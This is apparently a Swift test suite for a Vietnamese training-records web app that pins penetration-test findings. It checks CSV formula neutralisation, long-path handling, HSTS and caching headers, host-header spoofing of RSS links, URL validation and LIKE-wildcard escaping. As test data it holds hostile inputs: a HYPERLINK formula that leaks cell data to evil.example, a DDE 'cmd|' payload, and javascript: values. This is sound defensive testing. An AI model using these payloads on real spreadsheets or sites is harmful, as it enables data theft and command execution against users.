import Testing
import Foundation
import Vapor
import VaporTesting
import Fluent
import HocBaCore
import HocBaStore
import HocBaWeb
import HocBaApp
import HocBaTesting

/// The findings of the penetration test (issue 12), each pinned by a test (docs/security.md).
@Suite(.serialized) struct SecurityFindingsTests {
    // MARK: CSV formula injection

    /// Text a spreadsheet would run as a formula, planted in every kind of record a list download shows.
    static func plantFormulas(_ app: Application) async throws {
        let store = RecordStore(app.db)
        try await store.createUnit(UnitDraft(code: "BB-X", name: "-Xã Âm", level: .commune, parentCode: "BB"))
        for (code, name) in [("F1", #"=HYPERLINK("http://evil.example/?x="&A2,"x")"#), ("F2", "@SUM(1)"),
                             ("F3", "-2+3+cmd|' /C calc'!A0"), ("F4", "+1")] {
            try await store.createPerson(PersonDraft(code: code, fullName: name, unitCode: "BB-X", category: .civilServant,
                                                     post: "=1+1"))
        }
        try await store.saveInstitution(InstitutionDraft(code: "TT-X", name: "+Trung tâm lạ"))
        try await store.saveInstructor(InstructorDraft(code: "GV-X", fullName: "@Giảng viên", institutionCode: "TT-X"))
        try await store.createClass(ClassDraft(code: "L-X", name: "=1+2", programmeType: "NGACH", institutionCode: "TT-X",
                                               start: Day(2019, 3, 4), end: Day(2019, 3, 8)))
        try await store.saveFundingLine(FundingDraft(documentNumber: "KP-X", year: 2019, source: "NSDP", amount: 5,
                                                     note: "\tcmd"))
    }

    /// Every `.csv` route of the router, fetched by the province: no field starts with = + - @ tab or CR unless it
    /// is a number, and each shows at least one planted value, neutralised with a leading quote.
    @Test func noCSVDownloadHandsASpreadsheetAFormula() async throws {
        try await withTestApp { app in
            try await seedTwoDistricts(app)
            try await Self.plantFormulas(app)
            let admin = try await Visitor.signedIn(app)
            let paths = app.routes.all.filter { $0.method == .GET && $0.path.last?.description.hasSuffix(".csv") == true }
                .map { "/" + $0.path.map(\.description).joined(separator: "/") }
            #expect(paths.count >= 6)
            for path in paths {
                let (status, body) = try await admin.get(path)
                #expect(status == .ok, "\(path)")
                let fields = parseCSV(body).flatMap { $0 }
                for field in fields where Int(field) == nil {
                    #expect(!startsLikeFormula(field), "\(path): \(field.debugDescription)")
                }
                #expect(fields.contains { $0.hasPrefix("'") && startsLikeFormula(String($0.dropFirst())) },
                        "\(path) shows no planted value")
            }
            let people = parseCSV(try await admin.get("/can-bo.csv").1)
            #expect(people.contains { $0.contains(#"'=HYPERLINK("http://evil.example/?x="&A2,"x")"#) })
            #expect(people.contains { $0.contains("'-2+3+cmd|' /C calc'!A0") })
        }
    }

    // MARK: Long paths

    /// A path too long to be a file name answers 404 (or 414 past 4 096 bytes), signed in or not, never 500.
    @Test func longPathsAnswer404Or414NotAnError() async throws {
        try await withTestApp { app in
            let admin = try await Visitor.signedIn(app)
            let guest = Visitor(app: app)
            for visitor in [admin, guest] {
                for (path, expected) in [("/" + String(repeating: "a", count: 1_000), HTTPStatus.notFound),
                                         ("/can-bo/" + String(repeating: "%C3%A1", count: 300), .notFound),
                                         ("/" + String(repeating: "a/", count: 1_500), .notFound),
                                         ("/css/" + String(repeating: "b", count: 256) + ".css", .notFound),
                                         ("/" + String(repeating: "a", count: 5_000), .uriTooLong),
                                         ("/can-bo?q=" + String(repeating: "a", count: 5_000), .uriTooLong)] {
                    let (status, body) = try await visitor.get(path)
                    let place = "\(visitor === guest ? "guest" : "admin") \(path.prefix(20))… (\(path.count))"
                    // A visitor not signed in is sent to sign in first when the path is a page's.
                    #expect(status == expected || (visitor === guest && status == .seeOther), "\(place): \(status.code)")
                    #expect(status.code < 500 && !body.contains("Đã có lỗi trong hệ thống"), "\(place)")
                }
            }
            let (status, body) = try await admin.get("/" + String(repeating: "a", count: 5_000))
            #expect(status == .uriTooLong && body.contains("Địa chỉ trang quá dài."))
            // Static files are still served.
            try await admin.test(.GET, "/css/hocba.css") { res in #expect(res.status == .ok) }
        }
    }

    // MARK: HSTS and caching

    /// Signed in, nothing is cached (pages, downloads, errors); static files and the public bulletin read by a
    /// visitor not signed in may be. Without TLS no response claims HSTS.
    @Test func personalPagesAreNeverCachedAndHSTSOnlyOverTLS() async throws {
        try await withTestApp { app in
            try await seed(app)
            try await RecordStore(app.db).saveNews(NewsDraft(title: "Tin", body: "Nội dung.", author: "Sở Nội vụ",
                                                             date: Day(2020, 1, 1), published: true))
            let admin = try await Visitor.signedIn(app)
            let guest = Visitor(app: app)
            let personal: [(Visitor, String)] = [(admin, "/"), (admin, "/can-bo"), (admin, "/can-bo/P1"),
                                                 (admin, "/can-bo.csv"), (admin, "/can-bo.xlsx"), (admin, "/khong-co"),
                                                 (admin, "/ban-tin"), (admin, "/ban-tin/1"), (guest, "/dang-nhap"),
                                                 (guest, "/can-bo"), (guest, "/khong-co")]
            let shared: [(Visitor, String)] = [(guest, "/css/hocba.css"), (guest, "/favicon.svg"), (admin, "/js/ban-tin.js"),
                                               (guest, "/ban-tin"), (guest, "/ban-tin/1"), (guest, "/ban-tin/rss.xml")]
            for (visitor, path, noStore) in personal.map({ ($0, $1, true) }) + shared.map({ ($0, $1, false) }) {
                try await visitor.test(.GET, path) { res in
                    #expect(res.status.code < 500, "\(path)")
                    #expect((res.headers.first(name: .cacheControl) == "no-store") == noStore, "\(path)")
                    #expect(res.headers.first(name: .strictTransportSecurity) == nil, "\(path)")
                }
            }
        }
    }

    /// Over TLS (`HOCBA_TLS=1`) every response, static files and errors included, carries HSTS.
    @Test func everyResponseCarriesHSTSOverTLS() async throws {
        try await withTestApp(adjusting: { $0.secureCookies = true }) { app in
            try await seed(app)
            let admin = try await Visitor.signedIn(app)
            for path in ["/", "/can-bo.csv", "/css/hocba.css", "/ban-tin/rss.xml", "/khong-co", "/dang-nhap",
                         "/" + String(repeating: "a", count: 5_000)] {
                try await admin.test(.GET, path) { res in
                    #expect(res.headers.first(name: .strictTransportSecurity) == "max-age=31536000; includeSubDomains",
                            "\(path.prefix(30))")
                }
            }
        }
    }

    // MARK: Public URL

    /// The feed's links start with the configured public URL whatever `Host` and `X-Forwarded-*` a request sends.
    @Test func theRSSFeedLinksToThePublicURLNotToTheRequestsHost() async throws {
        for (publicURL, expected) in [("https://hocba.example/", "https://hocba.example/"),
                                      (nil, "http://127.0.0.1:8080/")] {
            try await withTestApp(adjusting: { config in
                config.publicURL = try? publicURL.map(AppConfig.publicURL)
            }) { app in
                try await RecordStore(app.db).saveNews(NewsDraft(title: "Tin", body: "Nội dung.", author: "Sở Nội vụ",
                                                                 date: Day(2020, 1, 1), published: true))
                try await app.testing().test(.GET, "/ban-tin/rss.xml", beforeRequest: { req in
                    req.headers.replaceOrAdd(name: .host, value: "evil.example")
                    req.headers.replaceOrAdd(name: "X-Forwarded-Proto", value: "javascript:alert(1)//")
                    req.headers.replaceOrAdd(name: "X-Forwarded-Host", value: "evil.example")
                }, afterResponse: { res in
                    let xml = res.body.string
                    let links = ["link", "guid"].flatMap { elementTexts(xml, $0) }
                    #expect(links.count == 3)
                    for link in links { #expect(link.hasPrefix(expected), "\(link)") }
                    #expect(!xml.contains("evil.example") && !xml.contains("javascript:"))
                })
            }
        }
    }

    /// `HOCBA_PUBLIC_URL`: http or https with a host, nothing else; a clear Vietnamese error otherwise.
    @Test func thePublicURLIsValidated() throws {
        let base = ["HOCBA_ROOT": packageRoot]
        #expect(try AppConfig.fromEnvironment(base).publicBaseURL == "http://127.0.0.1:8080")
        #expect(try AppConfig.fromEnvironment(base.merging(["HOCBA_HOSTNAME": "::1", "HOCBA_PORT": "9000"]) { $1 })
            .publicBaseURL == "http://[::1]:9000")
        for (text, url) in [("https://hocba.backan.gov.vn/", "https://hocba.backan.gov.vn"),
                            ("http://10.0.0.5:8080", "http://10.0.0.5:8080")] {
            #expect(try AppConfig.fromEnvironment(base.merging(["HOCBA_PUBLIC_URL": text]) { $1 }).publicBaseURL == url)
        }
        for text in ["javascript:alert(1)", "ftp://hocba.example", "https://", "hocba.example", "https://a.example/?x=1",
                     "https://a.example/#x", "https://a.example/hocba", "https://user:pw@a.example", "https://a b"] {
            #expect(throws: ConfigError.self, "\(text)") {
                try AppConfig.fromEnvironment(base.merging(["HOCBA_PUBLIC_URL": text]) { $1 })
            }
        }
        #expect(ConfigError.invalidPublicURL("x").description.hasPrefix("Địa chỉ công khai HOCBA_PUBLIC_URL không hợp lệ"))
    }

    // MARK: LIKE wildcards

    /// The audit page's writer filter matches `%` and `_` literally, in the store and on the page.
    @Test func theWriterFilterTakesWildcardsLiterally() async throws {
        try await withTestApp { app in
            try await seed(app)
            for (index, name) in ["đạt 100%", "chuyên_viên", "chuyên viên"].enumerated() {
                let db = app.database(writtenBy: AuditActor(name: name, origin: "10.0.0.\(index)"))
                try await RecordStore(db).createPerson(PersonDraft(code: "W\(index)", fullName: "Người \(index)",
                                                                   unitCode: "BB", category: .civilServant))
            }
            let store = RecordStore(app.db)
            func writers(_ text: String) async throws -> Set<String> {
                Set(try await store.auditEntries(AuditFilter(actor: text)).rows.map(\.actor))
            }
            #expect(try await writers("%") == ["đạt 100%"])
            #expect(try await writers("_") == ["chuyên_viên"])
            #expect(try await writers("n_v") == ["chuyên_viên"])
            #expect(try await writers("\\") == [])
            #expect(try await writers("chuyên").count == 2)
            let admin = try await Visitor.signedIn(app)
            let (status, page) = try await admin.get("/nhat-ky?nguoi=_")
            #expect(status == .ok && page.contains("chuyên_viên") && !page.contains("chuyên viên<"))
            #expect(!page.contains("đạt 100%"))
        }
    }

    // MARK: Class counts within the scope

    /// A district's account counts only its own learners of the province's class (and says so); the province
    /// and the class's institution count all of them. Page and download alike.
    @Test func aUnitCountsOnlyItsOwnLearnersInTheClassList() async throws {
        try await withTestApp { app in
            try await seedTwoDistricts(app)
            for (role, unit, institution, counts, scoped) in [
                (Role.unitOfficer, "BB", nil, ["1", "1"], true),
                (.administrator, nil, nil, ["2", "2"], false), (.institution, nil, "TCT", ["2", "2"], false),
            ] as [(Role, String?, String?, [String], Bool)] {
                let visitor = try await Visitor.signedIn(app, as: role, unit: unit, institution: institution)
                let (_, page) = try await visitor.get("/lop-hoc")
                #expect(classCounts(page, "LTINH") == counts, "\(role.rawValue)")
                #expect(page.contains("<th class=\"num\">Học viên (thuộc đơn vị)</th>") == scoped, "\(role.rawValue)")
                #expect(page.contains("<th class=\"num\">Hoàn thành (thuộc đơn vị)</th>") == scoped, "\(role.rawValue)")
                let csv = parseCSV(try await visitor.get("/lop-hoc.csv").1)
                let header = try #require(csv.first)
                let row = try #require(csv.first { $0.first == "LTINH" })
                let learners = try #require(header.firstIndex(of: scoped ? "Số học viên (thuộc đơn vị)" : "Số học viên"))
                let completed = try #require(header.firstIndex(of: scoped ? "Hoàn thành (thuộc đơn vị)" : "Hoàn thành"))
                #expect([row[learners], row[completed]] == counts, "\(role.rawValue)")
            }
        }
    }
}

/// The learner and completion counts of a class on the class list page.
func classCounts(_ page: String, _ code: String) -> [String] {
    guard let link = page.range(of: "href=\"/lop-hoc/\(code)\""),
          let end = page.range(of: "</tr>", range: link.upperBound..<page.endIndex) else { return [] }
    return elementTexts(String(page[link.upperBound..<end.lowerBound]), "td").suffix(2)
}

/// The texts of every `<name>…</name>` element of an XML text.
func elementTexts(_ xml: String, _ name: String) -> [String] {
    xml.components(separatedBy: "<\(name)").dropFirst().compactMap { part in
        guard let start = part.firstIndex(of: ">"), let end = part.range(of: "</\(name)>") else { return nil }
        return String(part[part.index(after: start)..<end.lowerBound])
    }
}

/// Whether a spreadsheet would read the field as a formula.
func startsLikeFormula(_ field: String) -> Bool {
    guard let first = field.unicodeScalars.first else { return false }
    return "=+-@\t\r".unicodeScalars.contains(first)
}

/// RFC 4180 fields (quoted fields may hold commas, quotes and line breaks), after the byte-order mark.
func parseCSV(_ text: String) -> [[String]] {
    var rows: [[String]] = [], row: [String] = [], field = String.UnicodeScalarView()
    let scalars = Array(text.unicodeScalars.drop { $0 == "\u{FEFF}" })
    var quoted = false, index = 0
    while index < scalars.count {
        let scalar = scalars[index]
        index += 1
        if quoted {
            if scalar == "\"" {
                if index < scalars.count, scalars[index] == "\"" { field.append("\""); index += 1 } else { quoted = false }
            } else {
                field.append(scalar)
            }
        } else if scalar == "\"" {
            quoted = true
        } else if scalar == "," {
            row.append(String(field)); field = .init()
        } else if scalar == "\r", index < scalars.count, scalars[index] == "\n" {
            index += 1
            row.append(String(field)); field = .init()
            rows.append(row); row = []
        } else {
            field.append(scalar)
        }
    }
    if !field.isEmpty || !row.isEmpty { row.append(String(field)); rows.append(row) }
    return rows
}
